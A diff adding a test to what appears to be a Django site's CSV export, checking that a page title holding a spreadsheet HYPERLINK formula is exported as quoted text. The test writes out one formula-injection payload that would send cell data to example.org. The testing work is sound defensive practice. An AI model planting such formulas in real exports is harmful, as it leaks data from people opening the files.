@@ -116,6 +116,16 @@ def test_csv_download(client, known):
     assert next(r for r in wijk_rows if r[0] == "taal" and r[3] == "Oog in Al")[4] == "1"
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_stay_text(client, known):
+    oog_in_al = known["oog_in_al"]
+    oog_in_al.title = '=HYPERLINK("https://example.org/?x="&A1;"Klik")'
+    oog_in_al.save()
+    body = client.get(reverse("overzicht:wijk-csv", args=["west"])).content.decode()
+    cells = {r[3] for r in csv.reader(io.StringIO(body))}
+    assert "'" + oog_in_al.title in cells
+    assert oog_in_al.title not in cells
+
+
 def test_a_search_is_counted_without_anything_personal(client, known):
     west = WijkPage.objects.get(slug="west")
     unique = "zxqv-geheim-7731 nederlands leren"
